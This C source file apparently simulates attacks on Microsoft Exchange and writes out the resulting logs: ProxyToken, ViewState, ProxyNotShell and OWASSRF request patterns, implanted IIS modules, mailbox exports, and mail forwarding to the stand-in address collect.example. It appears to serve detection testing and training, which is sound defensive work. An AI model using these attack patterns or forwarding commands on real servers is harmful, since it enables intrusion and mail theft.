/* steps_other.c - the other flaws, and what is added to a server: modules,
 * directories, rules, exports; attack-chain.md 2 to 6. */
#include "life.h"
#include "request.h"
#include "shapes.h"
#include "story.h"
#include "windows.h"

static struct request plain(struct step *s, enum log_kind proxy,
			    const char *method, const char *stem)
{
	struct request q = {
		.begin_ns = s->at_ns,
		.took_ms = rng_between(s->r, 20, 900),
		.server = s->server,
		.proxy = proxy,
		.method = method,
		.stem = stem,
		.host = s->server->address,
		.auth = "FBA",
		.client = step_client(s),
		.claimed = step_claim(s),
		.agent = s->actor->agent,
		.status = 200,
		.mark = s->mark,
	};

	if (!s->looking)
		truth_add(&s->lab->truth, &s->lab->truth.sources, q.client);
	return q;
}

static void run_cmdlet(struct step *s, const char *name, const char *parameters,
		       const char *error)
{
	struct cmdlet c = {
		.at_ns = s->at_ns,
		.server = s->server->index,
		.log = LOG_CMDLET,
		.user = s->actor->victim->login,
		.sid = s->actor->victim->sid,
		.process = "w3wp#MSExchangePowerShellAppPool",
		.name = name,
		.parameters = parameters,
		.error = error,
		.admin = true,
		.mark = s->mark,
	};

	cmdlet_put(s->lab, s->r, &c);
}

/* CVE-2021-33766: a rule is made in somebody's mailbox without a logon. */
static void take_proxytoken(struct step *s)
{
	char stem[200], cmd[300];
	struct ecp e = {
		.server = s->server->index,
		.cmd = cmd,
		.url = "/ecp/RulesEditor/InboxRules.svc/NewObject",
	};
	struct request q;

	step_deed(s, STEP_ENTRY, "CVE-2021-33766");
	snprintf(stem, sizeof(stem),
		 "/ecp/%s/RulesEditor/InboxRules.svc/NewObject",
		 s->actor->victim->mail);
	q = plain(s, LOG_PROXY_ECP, "POST", stem);
	q.status = s->refused ? 401 : 500;
	q.backend_status = s->refused ? 0 : 500;
	q.back_stem = s->refused ? NULL : stem;
	q.query = "msExchEcpCanary=x";
	request_put(s->lab, s->r, &q);
	if (s->refused)
		return;
	step_flaw(s, "CVE-2021-33766");
	e.at_ns = s->at_ns + 200 * NS_PER_MS;
	e.mark = s->mark;
	snprintf(cmd, sizeof(cmd),
		 "New-InboxRule.ForwardTo='%s@collect.example'.Mailbox='%s'",
		 s->actor->resource, s->actor->victim->mail);
	e.activity = q.activity;
	ecp_put(s->lab, s->r, &e);
	truth_implant(&s->lab->truth, s->server->name, s->actor->victim->mail,
		      "rule", s->at_ns);
	truth_add(&s->lab->truth, &s->lab->truth.mailboxes,
		  s->actor->victim->mail);
}

/* CVE-2020-0688: state signed with the key that all servers share. */
static void take_viewstate(struct step *s)
{
	char query[900], blob[600];
	struct request q;

	step_deed(s, STEP_ENTRY, "CVE-2020-0688");
	rng_word(s->r, blob, 590);
	snprintf(query, sizeof(query),
		 "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%%2FwEy%s", blob);
	q = plain(s, LOG_PROXY_ECP, "GET", "/ecp/default.aspx");
	q.query = query;
	q.user = s->actor->victim->account;
	q.status = q.backend_status = 500;
	q.back_stem = "/ecp/default.aspx";
	q.back_query = query;
	step_flaw(s, "CVE-2020-0688");
	request_put(s->lab, s->r, &q);
	SHAPE_PUT(s->lab, s->server->index, &shape_panel_error,
		  s->at_ns + NS_PER_SECOND, s->mark, s->actor->victim->account,
		  query, "System.Web.HttpUnhandledException");
}

/* CVE-2021-28480 */
static void take_calendar(struct step *s)
{
	char stem[200];
	struct request q;

	step_deed(s, STEP_ENTRY, "CVE-2021-28480");
	snprintf(stem, sizeof(stem), "/owa/calendar/a@%s/x/reachcalendar.html",
		 s->server->fqdn);
	q = plain(s, LOG_PROXY_OWACALENDAR, "POST", stem);
	q.backend_status = 200;
	step_flaw(s, "CVE-2021-28480");
	request_put(s->lab, s->r, &q);
}

/* CVE-2021-42321: an app's settings are read back as code. */
static void take_app(struct step *s)
{
	step_deed(s, STEP_ENTRY, "CVE-2021-42321");
	step_flaw(s, "CVE-2021-42321");
	run_cmdlet(s, "Get-App", "-Mailbox \"self\"",
		   "System.InvalidCastException: Unable to cast object of "
		   "type 'System.Object'");
}

/* CVE-2022-41040: as ProxyShell, by somebody who is logged on. */
static void take_notshell(struct step *s)
{
	char query[300];
	unsigned n = s->spec->count ? s->spec->count : 4;

	step_deed(s, STEP_ENTRY, "CVE-2022-41040");
	snprintf(query, sizeof(query),
		 "a@%s.example/powershell/?x=a&Email=autodiscover/"
		 "autodiscover.json%%3fa@%s.example",
		 s->actor->resource, s->actor->resource);
	while (n--) {
		struct request q = plain(s, LOG_PROXY_AUTODISCOVER, "POST",
					 "/autodiscover/autodiscover.json");

		q.query = query;
		q.user = s->actor->victim->account;
		q.auth = "Basic";
		q.status = s->refused ? 403 : 200;
		q.backend_status = s->refused ? 0 : 200;
		q.back_stem = s->refused ? NULL : "/powershell/";
		if (!s->refused) {
			step_flaw(s, "CVE-2022-41040");
			step_flaw(s, "CVE-2022-41082");
		}
		request_put(s->lab, s->r, &q);
		step_pause(s, 400, 4000);
	}
}

/* CVE-2022-41080: PowerShell by way of OWA. */
static void take_owassrf(struct step *s)
{
	char stem[200];
	unsigned n = s->spec->count ? s->spec->count : 4;

	step_deed(s, STEP_ENTRY, "CVE-2022-41080");
	snprintf(stem, sizeof(stem), "/owa/%s%%40%s/powershell",
		 s->actor->victim->login, s->lab->world.dns);
	while (n--) {
		struct request q = plain(s, LOG_PROXY_OWA, "POST", stem);

		q.user = s->actor->victim->account;
		q.backend_status = 200;
		q.back_stem = "/powershell";
		step_flaw(s, "CVE-2022-41080");
		step_flaw(s, "CVE-2022-41082");
		request_put(s->lab, s->r, &q);
		step_pause(s, 400, 4000);
	}
}

/* The process of the PowerShell pool writes a page. */
static void take_drop(struct step *s)
{
	struct page *p;

	step_deed(s, STEP_IMPLANT, NULL);
	p = page_drop(s, s->spec->arg);
	if (p)
		windows_file(s->lab, s->r, s->server->index, s->at_ns, W3WP,
			     p->path, s->mark);
}

static void add_to_iis(struct step *s, struct addition *list, unsigned *count,
		       const char *name, const char *image)
{
	struct addition *a = &list[*count];

	if (*count == 8)
		return;
	++*count;
	a->server = s->server->index;
	snprintf(a->name, sizeof(a->name), "%s", name);
	snprintf(a->image, sizeof(a->image), "%s", image);
}

static void take_module(struct step *s)
{
	char name[64], image[200], word[8], configuration[300];

	step_deed(s, STEP_IMPLANT, NULL);
	rng_letters(s->r, word, 6);
	snprintf(name, sizeof(name), "Http%sModule", word);
	snprintf(image, sizeof(image), "C:\\Windows\\Temp\\%s.dll", word);
	add_to_iis(s, s->story->modules, &s->story->module_count, name, image);
	snprintf(configuration, sizeof(configuration),
		 "/system.webServer/globalModules/add[@name=\"%s\"]/@image",
		 name);
	SHAPE_PUT(s->lab, s->server->index, &shape_iis_changed, s->at_ns,
		  s->mark, "MACHINE/WEBROOT/APPHOST", configuration, "", image,
		  "1");
	truth_implant(&s->lab->truth, s->server->name, image, "module",
		      s->at_ns);
}

static const char directory_setting[] =
	"/system.applicationHost/sites/site[@name=\"Default Web Site\"]/"
	"application[@path=\"/owa/auth/com1\"]/virtualDirectory[@path="
	"\"/\"]/@physicalPath";

static void take_directory(struct step *s)
{
	struct page *p;

	step_deed(s, STEP_IMPLANT, NULL);
	p = page_drop(s, "hidden");
	add_to_iis(s, s->story->directories, &s->story->directory_count,
		   "/owa/auth/com1", "C:\\ProgramData\\COM1");
	if (!p)
		return;
	SHAPE_PUT(s->lab, s->server->index, &shape_iis_changed, s->at_ns,
		  s->mark, "MACHINE/WEBROOT/APPHOST", directory_setting, "",
		  "C:\\ProgramData\\COM1", "1");
	truth_implant(&s->lab->truth, s->server->name, "/owa/auth/com1",
		      "virtual-directory", s->at_ns);
}

/* A shipped page is changed in place. */
static void take_change(struct step *s)
{
	step_deed(s, STEP_IMPLANT, NULL);
	s->story->changed_logon = s->server->index + 1;
	windows_file(s->lab, s->r, s->server->index, s->at_ns, W3WP,
		     "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
		     "FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx",
		     s->mark);
	truth_implant(&s->lab->truth, s->server->name,
		      "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
		      "FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx",
		      "page-changed", s->at_ns);
}

static void take_export(struct step *s)
{
	char parameters[400];
	unsigned n = s->spec->count ? s->spec->count : 3;

	step_deed(s, STEP_EXTRACTION, NULL);
	while (n--) {
		const struct user *u = &s->lab->world.users[rng_below(
			s->r, s->lab->world.user_count)];

		snprintf(parameters, sizeof(parameters),
			 "-Mailbox \"%s\" -FilePath \"\\\\127.0.0.1\\C$\\"
			 "ProgramData\\pst\\%s.pst\"",
			 u->login, u->login);
		run_cmdlet(s, "New-MailboxExportRequest", parameters, NULL);
		truth_add(&s->lab->truth, &s->lab->truth.mailboxes, u->mail);
		step_pause(s, 2000, 60000);
	}
}

/* Mail is forwarded outside; every message that follows is seen to leave. */
static void take_forward(struct step *s)
{
	const struct user *u = s->actor->victim;
	char parameters[300], to[96];
	unsigned n = s->spec->count ? s->spec->count : 12;

	step_deed(s, STEP_EXTRACTION, NULL);
	snprintf(to, sizeof(to), "%s@collect.example", s->actor->resource);
	snprintf(parameters, sizeof(parameters),
		 "-Identity \"%s\" -DeliverToMailboxAndForward \"True\" "
		 "-ForwardingSmtpAddress \"smtp:%s\"",
		 u->login, to);
	run_cmdlet(s, "Set-Mailbox", parameters, NULL);
	truth_implant(&s->lab->truth, s->server->name, u->mail, "rule",
		      s->at_ns);
	truth_add(&s->lab->truth, &s->lab->truth.mailboxes, u->mail);
	while (n--) {
		struct tracking t = {
			.server = s->server->index,
			.log = LOG_TRACKING,
			.source = "SMTP",
			.event = "SEND",
			.client = s->server->address,
			.subject = "FW: figures",
			.sender = u->mail,
			.recipient = to,
			.direction = "Originating",
			.bytes = 20000 + rng_below(s->r, 400000),
			.mark = s->mark,
		};

		step_pause(s, 600000, 5400000);
		t.at_ns = s->at_ns;
		rng_guid(s->r, t.network_id);
		snprintf(t.message_id, sizeof(t.message_id), "<%.8s@%s>",
			 t.network_id, s->lab->world.dns);
		tracking_put(s->lab, s->r, &t);
		truth_sent(&s->lab->truth, s->mark, t.bytes);
		s->lab->truth.bytes_out += t.bytes;
	}
}

/* Passwords are guessed at the logon page. */
static void take_spray(struct step *s)
{
	unsigned n = s->spec->count ? s->spec->count : 40;

	s->refused = true;
	step_deed(s, STEP_RECON, NULL);
	while (n--) {
		const struct user *u =
			&s->lab->world.users[n % s->lab->world.user_count];
		struct request q =
			plain(s, LOG_PROXY_OWA, "POST", "/owa/auth.owa");
		struct logon l = {
			.at_ns = s->at_ns,
			.host = s->server->index,
			.type = 8,
			.account = u->login,
			.domain = s->lab->world.domain,
			.workstation = s->server->name,
			.address = step_client(s),
			.process = W3WP,
			.mark = s->mark,
		};

		q.status = 302;
		request_put(s->lab, s->r, &q);
		windows_logon_failed(s->lab, s->r, &l);
		step_pause(s, 500, 9000);
	}
}

const struct verb verbs_other[] = {
	{"proxytoken", take_proxytoken},
	{"viewstate", take_viewstate},
	{"calendar", take_calendar},
	{"get-app", take_app},
	{"proxynotshell", take_notshell},
	{"owassrf", take_owassrf},
	{"page-drop", take_drop},
	{"module", take_module},
	{"directory", take_directory},
	{"page-change", take_change},
	{"export", take_export},
	{"forward", take_forward},
	{"spray", take_spray},
	{NULL, NULL},
};
